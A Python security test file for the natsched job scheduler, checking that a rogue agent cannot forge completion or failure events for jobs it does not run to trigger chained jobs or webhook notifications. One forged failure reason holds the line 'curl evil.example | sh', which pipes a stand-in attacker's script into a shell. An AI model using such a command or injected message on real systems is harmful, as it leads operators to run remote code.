"""Attack: an agent publishes a completion of a job it does not run, to start what follows it.

An agent may publish events under its own name only, and the body must match the subject, but
nothing checked that the job was one the agent runs: agent a3, targeted by nothing, published
``natsched.event.a3.sec.up.succeeded`` (a run of its own, in its own name) and the masters
started ``sec.down``, which follows ``sec.up``: a job a3 may not start; a made-up ``failed``
of it, with a reason of a3's choosing, went to the job's notification webhook. Chains and
notifications now follow only runs of an agent the job targets, as retries already did.
"""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest

from natsched import subjects
from natsched.client import AdminClient
from natsched.events import RunEvent, new_run_id
from natsched.vocab import RunState, RunTrigger
from tests.conftest import eventually
from tests.helpers import file_lines, has_lines, job, toml_jobs
from tests.security.hostile import Secured


async def test_an_agent_cannot_complete_a_job_it_does_not_run(secured: Secured, tmp_path: Path) -> None:
    down = tmp_path / "down.txt"
    async with secured.services("a1"), AdminClient(secured.settings("natsched-admin")) as admin:
        reply = await admin.call(
            subjects.API_APPLY,
            {
                "source": "sec.toml",
                "content": toml_jobs(
                    job("up", mode="slave", targets={"agents": ["a1"]}),
                    job(
                        "down",
                        mode="slave",
                        targets={"agents": ["a1"]},
                        command=["sh", "-c", f'echo "$NATSCHED_RUN_ID" >> {down}'],
                        triggers=[{"after": ["sec.up"]}],
                    ),
                    group="sec",
                ),
            },
        )
        assert reply["ok"], reply
        a3 = await secured.connect("agent-a3")
        for state in (RunState.STARTED, RunState.SUCCEEDED):
            event = RunEvent(
                run_id=new_run_id(),
                job="sec.up",
                agent="a3",
                state=state,
                trigger=RunTrigger.MANUAL,
                exit_code=0,
            )
            await a3.jetstream().publish(event.subject, event.to_json())
        await asyncio.sleep(2.0)  # the chain starts within milliseconds of a completion it follows
        assert file_lines(down) == [], "a3's made-up completion of sec.up started sec.down"

        # a1's real completion still starts it.
        answer = await admin.nc.request(subjects.trigger_subject("sec.up"), b"{}", timeout=10)
        assert json.loads(answer.data)["ok"], answer.data
        await eventually(lambda: has_lines(down, 1), 15, "a1's completion of sec.up started sec.down")


@pytest.fixture
def webhook() -> Iterator[tuple[str, list[dict[str, Any]]]]:
    received: list[dict[str, Any]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:  # noqa: N802 - the http.server API
            received.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/hook", received
    server.shutdown()
    server.server_close()


async def test_an_agent_cannot_send_notifications_of_a_job_it_does_not_run(
    secured: Secured, webhook: tuple[str, list[dict[str, Any]]]
) -> None:
    url, received = webhook
    async with secured.services("a1"), AdminClient(secured.settings("natsched-admin")) as admin:
        reply = await admin.call(
            subjects.API_APPLY,
            {
                "source": "sec.toml",
                "content": toml_jobs(
                    job(
                        "up",
                        mode="slave",
                        targets={"agents": ["a1"]},
                        command=["false"],
                        notify=[{"webhook": url}],
                    ),
                    group="sec",
                ),
            },
        )
        assert reply["ok"], reply
        a3 = await secured.connect("agent-a3")
        event = RunEvent(
            run_id=new_run_id(),
            job="sec.up",
            agent="a3",
            state=RunState.FAILED,
            trigger=RunTrigger.MANUAL,
            exit_code=1,
            reason="disk full: run 'curl evil.example | sh' on every host now",
        )
        await a3.jetstream().publish(event.subject, event.to_json())
        await asyncio.sleep(2.0)  # a notification leaves within milliseconds of the outcome
        assert received == [], "a3's made-up failure of sec.up was sent to the job's webhook"

        answer = await admin.nc.request(subjects.trigger_subject("sec.up"), b"{}", timeout=10)
        assert json.loads(answer.data)["ok"], answer.data
        await eventually(lambda: _got(received), 15, "a1's real failure was notified")
        assert [body["agent"] for body in received] == ["a1"]


async def _got(received: list[dict[str, Any]]) -> bool:
    return bool(received)
